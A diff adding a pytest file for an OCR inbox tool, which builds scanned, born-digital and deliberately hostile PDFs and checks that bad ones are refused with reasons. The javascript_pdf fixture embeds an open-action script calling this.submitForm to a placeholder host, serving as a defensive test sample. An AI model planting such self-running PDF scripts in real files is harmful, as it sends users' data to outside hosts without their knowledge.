@@ -1,0 +1,183 @@
+"""PDFs dropped into the inbox: scanned pages OCR'd, born-digital pages keep their text,
+hostile PDFs refused with a reason.
+
+The PDFs are made here with PyMuPDF from corpus pages (a scanner's PDF: one picture a
+page), with insert_text (a born-digital one), and broken on purpose (encrypted,
+truncated, a JavaScript open action, 10,000 pages).
+"""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+
+import pymupdf
+import pytest
+from PIL import Image
+
+from conftest import CORPUS, char_f1, ground_truth, run_cli
+from ocr_inbox.errors import BadImage
+from ocr_inbox.ocr import images
+from ocr_inbox.reasons import ADVICE
+
+#: pages of the scanned PDF, in order: (corpus page, its resolution)
+SCANNED = (("tesseract_test/phototest.tif", 200), ("funsd/82092117.png", 100))
+BORN_DIGITAL_TEXT = ("Quarterly report on inbox throughput", "Second line of born digital text")
+
+
+def scanned_pdf() -> bytes:
+    """What a scanner writes: each page one picture, no text."""
+    with pymupdf.open() as doc:
+        for rel, dpi in SCANNED:
+            with Image.open(CORPUS / rel) as im:
+                buf = io.BytesIO()
+                im.convert("RGB").save(buf, "PNG")
+                page = doc.new_page(width=im.width * 72 / dpi, height=im.height * 72 / dpi)
+            page.insert_image(page.rect, stream=buf.getvalue())
+        return bytes(doc.tobytes(garbage=3, deflate=True))
+
+
+def born_digital_pdf() -> bytes:
+    with pymupdf.open() as doc:
+        page = doc.new_page()  # A4-ish (595 x 842 pt)
+        for i, text in enumerate(BORN_DIGITAL_TEXT):
+            page.insert_text((72, 100 + 30 * i), text, fontsize=14)
+        return bytes(doc.tobytes())
+
+
+def encrypted_pdf() -> bytes:
+    with pymupdf.open(stream=born_digital_pdf(), filetype="pdf") as doc:
+        return bytes(doc.tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="secret", owner_pw="owner"))
+
+
+def javascript_pdf() -> bytes:
+    with pymupdf.open(stream=born_digital_pdf(), filetype="pdf") as doc:
+        js = doc.get_new_xref()
+        doc.update_object(js, "<</S/JavaScript/JS(app.alert\\('ran'\\); this.submitForm\\('http://example.invalid'\\);)>>")
+        doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{js} 0 R")
+        return bytes(doc.tobytes())
+
+
+def many_pages_pdf(n: int = 10_000) -> bytes:
+    with pymupdf.open() as doc:
+        for _ in range(n):
+            doc.new_page(width=200, height=200)
+        return bytes(doc.tobytes())
+
+
+def truncated_pdf() -> bytes:
+    data = scanned_pdf()
+    return data[: len(data) // 2]
+
+
+def _reason(data: bytes, limits: images.Limits = images.Limits()) -> str:
+    with pytest.raises(BadImage) as info:
+        list(images.pages(data, limits))
+    assert info.value.reason in ADVICE
+    return info.value.reason
+
+
+# --- the image module: unit tests, no OCR ---------------------------------------------------
+
+
+@pytest.mark.corpus
+def test_a_scanned_pdf_gives_its_pages_rendered_in_order_at_a_stated_resolution() -> None:
+    pages = images.decode(scanned_pdf(), images.Limits())
+    assert [p.index for p in pages] == [0, 1] and all(isinstance(p, images.PageImage) for p in pages)
+    for p, (rel, dpi) in zip(pages, SCANNED, strict=True):
+        assert isinstance(p, images.PageImage) and p.count == 2 and p.dpi is not None
+        with Image.open(CORPUS / rel) as im:
+            # 300 dpi: the page (its picture at `dpi`) has 300/dpi times the picture's pixels
+            assert abs(p.width - im.width * 300 / dpi) <= 1 and abs(p.height - im.height * 300 / dpi) <= 1
+        assert p.dpi == pytest.approx((300, 300), abs=0.5)
+        assert p.bgr.shape == (p.height, p.width, 3)
+
+
+def test_a_born_digital_page_keeps_its_own_text_and_is_not_rendered() -> None:
+    (page,) = images.decode(born_digital_pdf(), images.Limits())
+    assert isinstance(page, images.TextPage)
+    assert [ln.text for ln in page.lines] == list(BORN_DIGITAL_TEXT)
+    assert page.dpi == pytest.approx((300, 300), abs=0.5)
+    assert abs(page.width - 595 * 300 / 72) <= 1 and abs(page.height - 842 * 300 / 72) <= 1
+    first = page.lines[0].words[0]
+    assert first.text == "Quarterly" and first.box[0] == pytest.approx(72 * 300 / 72, abs=2)
+    # the setting to OCR such pages too: it is rendered
+    (redo,) = images.decode(born_digital_pdf(), images.Limits(pdf_ocr_pages_with_text=True))
+    assert isinstance(redo, images.PageImage) and redo.bgr.shape[:2] == (page.height, page.width)
+
+
+def test_hostile_pdfs_are_refused_each_with_its_reason() -> None:
+    assert _reason(encrypted_pdf()) == "pdf_encrypted"
+    assert _reason(javascript_pdf()) == "pdf_javascript"
+    assert _reason(b"%PDF-1.7\n" + b"\x00garbage" * 100) == "pdf_broken"
+    assert _reason(many_pages_pdf(), images.Limits(max_pages=2000)) == "too_many_pages"
+    # a page too large to read at 50 dpi within the pixel limit
+    with pymupdf.open() as doc:
+        doc.new_page(width=14_400, height=14_400)
+        assert _reason(bytes(doc.tobytes()), images.Limits(max_pixels=1_000_000)) == "too_many_pixels"
+
+
+@pytest.mark.corpus
+def test_a_truncated_pdf_is_refused_as_broken() -> None:
+    assert _reason(truncated_pdf()) == "pdf_broken"
+
+
+def test_a_huge_page_is_rendered_within_the_pixel_limit() -> None:
+    with pymupdf.open() as doc:
+        doc.new_page(width=2000, height=2000)  # 27.8 inches square: 69 M pixels at 300 dpi
+        data = bytes(doc.tobytes())
+    (page,) = images.decode(data, images.Limits(max_pixels=10_000_000))
+    assert isinstance(page, images.PageImage) and page.width * page.height <= 10_000_000
+    assert page.dpi is not None and page.dpi[0] < 300
+
+
+# --- the real command: OCR'd for real -------------------------------------------------------
+
+HOSTILE = {
+    "encrypted.pdf": (encrypted_pdf, "pdf_encrypted"),
+    "truncated.pdf": (truncated_pdf, "pdf_broken"),
+    "script.pdf": (javascript_pdf, "pdf_javascript"),
+    "thick.pdf": (many_pages_pdf, "too_many_pages"),
+}
+
+
+def _inbox(inbox: Path, hostile: bool = True) -> None:
+    (inbox / "mail").mkdir(parents=True)
+    (inbox / "mail" / "scans.pdf").write_bytes(scanned_pdf())
+    (inbox / "mail" / "digital.pdf").write_bytes(born_digital_pdf())
+    if hostile:
+        (inbox / "bad").mkdir()
+        for name, (make, _reason) in HOSTILE.items():
+            (inbox / "bad" / name).write_bytes(make())
+
+
+def _check_scanned_json(doc: dict) -> None:
+    assert [p["index"] for p in doc["pages"]] == [0, 1]
+    for page, (rel, _dpi) in zip(doc["pages"], SCANNED, strict=True):
+        assert "source" not in page  # OCR'd
+        assert page["dpi"] == pytest.approx([300, 300], abs=0.5)
+        text = "\n".join(ln["text"] for ln in page["lines"])
+        assert char_f1(ground_truth(rel), text) >= 0.9, rel
+        for ln in page["lines"]:
+            assert all(-2 <= x <= page["width"] + 2 and -2 <= y <= page["height"] + 2 for x, y in ln["poly"])
+
+
+def _check_digital_json(doc: dict) -> None:
+    (page,) = doc["pages"]
+    assert page["source"] == "pdf_text"
+    assert [ln["text"] for ln in page["lines"]] == list(BORN_DIGITAL_TEXT)
+    assert all(ln["score"] == 1.0 for ln in page["lines"])
+
+
+@pytest.mark.slow
+@pytest.mark.corpus
+def test_the_ocr_command_reads_pdfs_and_refuses_hostile_ones_with_reasons(tmp_path: Path, models_dir: Path) -> None:
+    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
+    _inbox(inbox)
+    res = run_cli("ocr", inbox, outbox, "--no-progress", state_dir=tmp_path / "state", models=models_dir)
+    _check_scanned_json(json.loads((outbox / "mail" / "scans.pdf.json").read_text()))
+    _check_digital_json(json.loads((outbox / "mail" / "digital.pdf.json").read_text()))
+    report = json.loads((outbox / ".ocr-inbox" / "failures.json").read_text())
+    assert {f["path"]: f["reason"] for f in report["failures"]} == {f"bad/{n}": r for n, (_m, r) in HOSTILE.items()}, res.stderr
+    assert report["done"] == 2 and not list((outbox / "bad").glob("*.json"))
